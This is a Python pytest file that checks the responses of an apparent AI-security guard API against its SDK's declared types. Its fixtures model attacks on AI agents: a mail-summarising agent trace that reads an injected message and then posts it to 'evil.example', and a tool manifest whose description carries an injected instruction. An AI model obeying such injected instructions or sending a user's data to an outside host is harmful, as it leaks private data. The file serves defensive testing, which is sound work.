"""Each answer on the key's plane against the type that the published SDK declares for it (contract 1.3 to 1.8)."""

import importlib.util
import sys
from collections.abc import Callable
from pathlib import Path
from types import ModuleType, NoneType, UnionType
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints, is_typeddict

import pytest

from tests.guard.test_guard_api import INJECTION, PERSONAL, user
from tests.people import Tenant

Ask = Callable[[Any, Tenant], Any]
TRACE = {
    "user_objective": "Summarise my mail",
    "events": [
        {"tool_name": "read_mail", "arguments": {}, "output": INJECTION},
        {
            "tool_name": "http_post",
            "arguments": {"url": "https://evil.example", "body": INJECTION},
            "output": "",
        },
    ],
}
MANIFEST = {
    "server_name": "files",
    "tools": [
        {"name": "read", "description": f"Reads. <IMPORTANT>{INJECTION}</IMPORTANT>", "inputSchema": {}}
    ],
}
POLICY = {"name": "Names", "policy_type": "custom", "rules": [{"condition": "contains_text", "value": "falcon", "action": "block"}]}  # fmt: skip


def posting(path: str, body: dict[str, Any], **headers: str) -> Ask:
    return lambda client, tenant: client.post(
        f"/api/v1/{path}", body, content_type="application/json", headers=headers
    )


def getting(path: str) -> Ask:
    return lambda client, tenant: client.get(f"/api/v1/{path}".format(project=tenant.project.id))


def rotating(client: Any, tenant: Tenant) -> Any:
    made = posting("agent/register", {"agent_name": "Assistant"})(client, tenant).json()
    return client.post(f"/api/v1/agent/{made['agent_id']}/rotate-credential")


def toggling(client: Any, tenant: Tenant) -> Any:
    made = posting("api-keys", {"name": "Another"})(client, tenant).json()
    return client.put(f"/api/v1/api-keys/{made['id']}/toggle")


def replacing_guardrails(client: Any, tenant: Tenant) -> Any:
    path = f"/api/v1/projects/{tenant.project.id}/guardrails"
    return client.put(path, {"guardrails": {"toxicity": {"threshold": 0.5}}}, content_type="application/json")


ANSWERS: list[tuple[str, Ask]] = [
    ("GuardResponse", posting("guard", {"messages": [user("How do I bake bread?")]})),
    ("GuardResponse", posting("guard", {"messages": [user(INJECTION)], "images": ["https://example.com/x.png"]})),
    ("GuardResponse", posting("guard", {"messages": [user(PERSONAL)]})),
    ("ScanResponse", posting("security/scan", {"content": INJECTION})),
    ("ScanResponse", posting("security/scan", {"content": "Good morning"})),
    ("RedactResponse", posting("security/redact", {"content": PERSONAL})),
    ("AgentRegisterResponse", posting("agent/register", {"agent_name": "Assistant", "allowed_tools": ["search"]})),
    ("AgentRotateResponse", rotating),
    ("AgentStats", getting("agent/a1/stats")),
    ("AgentSecurityHealthResponse", getting("agent/health")),
    ("AgentSessionEndedResponse", posting("agent/a1/sessions/s1/end", {})),
    ("AgentMemoryResponse", posting("agent/memory/scan", {"content": INJECTION, "direction": "read"})),
    ("AgentMemoryResponse", posting("agent/memory/scan", {"content": "Likes tea", "memory_id": "m-1"})),
    ("AgentTraceResponse", posting("agent/trace/audit", TRACE)),
    (
        "developer__agent__router__ToolCallResponse",
        posting("agent/validate-tool", {"agent_id": "a1", "tool_name": "bash", "arguments": {"command": "ls"}}),
    ),
    ("ManifestScanResponse", posting("mcp/scan-manifest", MANIFEST)),
    ("TestCatalog", getting("security-testing/tests")),
    ("TestSummary", posting("security-testing/run-all", {})),
    ("TestResponse", posting("security-testing/run-custom", {"custom_prompt": INJECTION})),
    ("ProjectResponse[]", getting("projects")),
    ("ApiKeyResponse[]", getting("api-keys")),
    ("CreateApiKeyResponse", posting("api-keys", {"name": "Another"})),
    ("ApiKeyToggledResponse", toggling),
    ("GuardrailsResponse", getting("projects/{project}/guardrails")),
    ("GuardrailsResponse", replacing_guardrails),
    ("AgentPoliciesResponse", getting("policies")),
    ("ManagedPolicyResponse", posting("policies", POLICY)),
    ("UsageStatsResponse", getting("usage/stats")),
    ("ApiHealthResponse", getting("health")),
    ("ApiRootResponse", getting("")),
    ("HTTPValidationError", posting("security/redact", {})),
    ("ErrorEnvelope", posting("guard", {"messages": []})),
]  # fmt: skip


@pytest.fixture(scope="module")
def sdk_types(sdk_path: Path) -> ModuleType:
    spec = importlib.util.spec_from_file_location(
        "sdk_types", sdk_path / "promptguard" / "generated" / "api_types.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # where its types look for each other's names
    spec.loader.exec_module(module)
    return module


def unfit(value: Any, hint: Any, path: str = "$") -> list[str]:
    """Where `value` is not what the type says; fields that the type does not know are no fault."""
    if hint is Any:
        return []
    if is_typeddict(hint):
        return unfit_object(value, hint, path)
    origin, arguments = get_origin(hint), get_args(hint)
    if origin in (Union, UnionType):  # the SDK's generator writes "or null" as "or Any"
        tried = [unfit(value, NoneType if each is Any else each, path) for each in arguments]
        return [] if [] in tried else tried[0]
    if origin is Literal:
        return [] if value in arguments else [f"{path}: not one of {arguments}"]
    if origin is list:
        if not isinstance(value, list):
            return [f"{path}: no list"]
        return [
            fault for at, each in enumerate(value) for fault in unfit(each, arguments[0], f"{path}[{at}]")
        ]
    wanted = {float: (int, float)}.get(hint, origin or hint)
    is_fit = isinstance(value, wanted) and (hint is bool or not isinstance(value, bool))
    return [] if is_fit else [f"{path}: {type(value).__name__} instead of {hint}"]


def unfit_object(value: Any, hint: Any, path: str) -> list[str]:
    if not isinstance(value, dict):
        return [f"{path}: no object"]
    hints = get_type_hints(hint)
    missing = [f"{path}.{name}: missing" for name in sorted(hint.__required_keys__) if name not in value]
    inner = [unfit(value[name], each, f"{path}.{name}") for name, each in hints.items() if name in value]
    return missing + [fault for faults in inner for fault in faults]


@pytest.mark.parametrize(
    ("name", "ask"), ANSWERS, ids=[f"{at}-{name}" for at, (name, _) in enumerate(ANSWERS)]
)
def test_the_answer_is_what_the_sdk_s_type_says(
    acme: Tenant, sdk_types: ModuleType, name: str, ask: Ask
) -> None:
    answer = ask(acme.developer(), acme).json()
    hint = getattr(sdk_types, name.removesuffix("[]"))
    answers = answer if name.endswith("[]") else [answer]
    assert isinstance(answers, list) and answers
    assert [fault for each in answers for fault in unfit(each, hint)] == []


def test_a_wrong_answer_is_told(sdk_types: ModuleType) -> None:
    lie = {
        "decision": "allow",
        "event_id": 7,
        "confidence": True,
        "threats": [{"type": "x", "rule": {"id": "x"}}],
    }
    assert unfit(lie, sdk_types.GuardResponse) == [
        "$.event_id: int instead of <class 'str'>",
        "$.confidence: bool instead of <class 'float'>",
        "$.threats[0].rule.detector: missing",
        "$.threats[0].rule.suppressible: missing",
    ]
